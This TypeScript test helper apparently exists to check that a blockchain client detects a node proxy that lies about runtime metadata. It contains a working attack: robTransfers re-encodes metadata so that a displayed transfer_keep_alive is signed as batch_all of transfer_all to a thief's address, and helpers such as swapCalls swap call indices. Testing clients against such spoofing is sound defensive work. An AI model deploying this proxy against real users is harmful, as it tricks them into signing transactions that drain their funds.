/**
 * A proxy before an honest node that makes its metadata lie: it rewrites what the node says about its runtime, and nothing else. A client
 * that believes it signs other calls than it shows.
 */
import { type CodecType, metadata as metadataCodec } from '@polkadot-api/substrate-bindings'
import { toHex } from '../../src/chain/scale/hex.js'
import { ScaleReader } from '../../src/chain/scale/reader.js'
import { ScaleWriter } from '../../src/chain/scale/writer.js'
import { type FaultProxy, startFaultProxy } from './fault-proxy/fault-proxy.js'
import type { Frame } from './fault-proxy/fault-proxy-frame.js'

type V15 = Extract<CodecType<typeof metadataCodec>['metadata'], { readonly tag: 'v15' }>['value']
type Entry = V15['lookup'][number]
type Variant = Extract<Entry['def'], { readonly tag: 'variant' }>['value'][number]

/** Changes metadata V15. */
export type Lie = (metadata: V15) => void

function decodeV15(bytes: Uint8Array): V15 {
  const { metadata } = metadataCodec.dec(new Uint8Array(bytes))
  if (metadata.tag !== 'v15') throw new Error(`metadata ${metadata.tag} in place of v15`)
  return metadata.value
}

/** The metadata with a lie in it. */
export function makeLyingMetadata(bytes: Uint8Array, lie: Lie): Uint8Array {
  const value = decodeV15(bytes)
  lie(value)
  return metadataCodec.enc({ magicNumber: 0x6174656d, metadata: { tag: 'v15', value } })
}

function addType(metadata: V15, path: readonly string[], def: Entry['def']): number {
  const id = metadata.lookup.length
  metadata.lookup.push({ id, path: [...path], params: [], def, docs: [] })
  return id
}

function variantsOf(metadata: V15, type: number | undefined): Variant[] {
  const def = metadata.lookup[type ?? -1]?.def
  if (def?.tag !== 'variant') throw new Error('no variants')
  return def.value
}

function findCall(metadata: V15, pallet: string, name: string): Variant {
  const calls = metadata.pallets.find((one) => one.name === pallet)?.calls
  const found = variantsOf(metadata, calls).find((variant) => variant.name === name)
  if (!found) throw new Error(`no call ${pallet}.${name}`)
  return found
}

function findType(metadata: V15, path: string): number {
  const id = metadata.lookup.findIndex((entry) => entry.path.join('::') === path)
  if (id < 0) throw new Error(`no type ${path}`)
  return id
}

const MULTI_ADDRESS = ['sp_runtime', 'multiaddress', 'MultiAddress']

/**
 * Adds a type whose encoded values are these bytes followed by an address. It consists of nested enums with one variant each, whose indices
 * are the bytes.
 */
function spell(metadata: V15, bytes: Uint8Array, inner: number, path: readonly string[]): number {
  return [...bytes].reverse().reduce((type, index) => {
    const fields = [{ name: undefined, type, typeName: undefined, docs: [] }]
    return addType(metadata, path, { tag: 'variant', value: [{ name: 'Id', fields, index, docs: [] }] })
  }, inner)
}

/** The bytes of another call, up to where the user's own arguments begin; the arguments become the text of a remark. */
function makePrefix(metadata: V15, thief: Uint8Array, swallowed: number): Uint8Array {
  const index = (pallet: string): number => metadata.pallets.find(({ name }) => name === pallet)?.index ?? -1
  const all = findCall(metadata, 'Balances', 'transfer_all').index
  const remark = findCall(metadata, 'System', 'remark').index
  return new ScaleWriter()
    .writeCompact(2)
    .writeBytes(Uint8Array.of(index('Balances'), all, 0))
    .writeBytes(thief)
    .writeBytes(Uint8Array.of(0, index('System'), remark))
    .writeCompact(swallowed)
    .toBytes()
}

/**
 * Turns `transfer_keep_alive` into `batch_all([transfer_all(thief), remark(what the user wrote)])`. `path` is the path that the nested
 * types claim, and `value` the number of bytes that the amount will take.
 */
export function robTransfers(thief: Uint8Array, path: readonly string[] = MULTI_ADDRESS, value = 4): Lie {
  return (metadata) => {
    const batch = findCall(metadata, 'Utility', 'batch_all').index
    const transfer = findCall(metadata, 'Balances', 'transfer_keep_alive')
    const prefix = makePrefix(metadata, thief, 32 + value)
    const account = findType(metadata, 'sp_core::crypto::AccountId32')
    const [dest] = transfer.fields
    if (dest) dest.type = spell(metadata, prefix, account, path)
    moveCall(metadata, transfer, batch)
  }
}

/** Swaps the indices of `Balances` and `Utility` in both lists, and gives one of the calls of `Balances` another index. */
function moveCall(metadata: V15, call: Variant, index: number): void {
  const { pallets } = metadata
  const [balances, utility] = ['Balances', 'Utility'].map((name) => pallets.find((pallet) => pallet.name === name))
  if (!balances || !utility) throw new Error('no such pallets')
  ;[balances.index, utility.index] = [utility.index, balances.index]
  const around = variantsOf(metadata, metadata.outerEnums.call)
  for (const pallet of [balances, utility]) {
    const variant = around.find(({ name }) => name === pallet.name)
    if (variant) variant.index = pallet.index
  }
  const list = variantsOf(metadata, balances.calls)
  const taken = list.find((other) => other.index === index)
  if (taken) taken.index = call.index
  call.index = index
}

/** Adds a second set of calls that only the list of pallets has. The type of all calls, whose digest the chain knows, stays as it is. */
export function hideCalls(pallet: string, name: string, like: string): Lie {
  return (metadata) => {
    const found = metadata.pallets.find((one) => one.name === pallet)
    if (!found) throw new Error(`no pallet ${pallet}`)
    const list = variantsOf(metadata, found.calls)
    const other = findCall(metadata, pallet, like).index
    const changed = list.map((variant) => {
      if (variant.name === name) return { ...variant, index: other }
      return variant.name === like ? { ...variant, index: findCall(metadata, pallet, name).index } : variant
    })
    found.calls = addType(metadata, ['pallet_balances', 'pallet', 'Call'], { tag: 'variant', value: changed })
  }
}

/** Two calls with the same arguments change places, in all that is said of them: nothing in it contradicts anything else. */
export function swapCalls(pallet: string, one: string, other: string): Lie {
  return (metadata) => {
    const [a, b] = [findCall(metadata, pallet, one), findCall(metadata, pallet, other)]
    ;[a.index, b.index] = [b.index, a.index]
  }
}

export interface LiarOptions {
  /** Rewrites other answers as well: the claimed genesis, the spec version, the result of validating. */
  readonly more?: (frame: Frame, answer: Record<string, unknown>) => Record<string, unknown>
}

/** Stands before the node at `url` and lies about its metadata. */
export function startLiar(url: string, lie: Lie, options: LiarOptions = {}): Promise<FaultProxy> {
  const asked = new Set<unknown>()
  let made: string | undefined
  const rewriteMetadata = (answer: Record<string, unknown>): Record<string, unknown> => {
    if (made === undefined) {
      const r = new ScaleReader(Buffer.from(String(answer.result).slice(2), 'hex'))
      if (!r.readBool()) return answer
      const lying = makeLyingMetadata(r.readBytes(r.readLength()), lie)
      made = toHex(new ScaleWriter().writeU8(1).writeCompact(lying.length).writeBytes(lying).toBytes())
    }
    return { ...answer, result: made }
  }
  return startFaultProxy(url, {
    decide: (frame) => {
      const { direction, text } = frame
      const { id, params } = JSON.parse(text) as { id?: unknown; params?: readonly unknown[] }
      if (direction === 'up') {
        // A new connection counts from the beginning.
        asked.delete(id)
        if (params?.[0] === 'Metadata_metadata_at_version') asked.add(id)
        return 'pass'
      }
      const isMetadata = asked.delete(id)
      if (!isMetadata && !options.more) return 'pass'
      return { rewrite: (answer) => (isMetadata ? rewriteMetadata(answer) : (options.more?.(frame, answer) ?? answer)) }
    },
  })
}
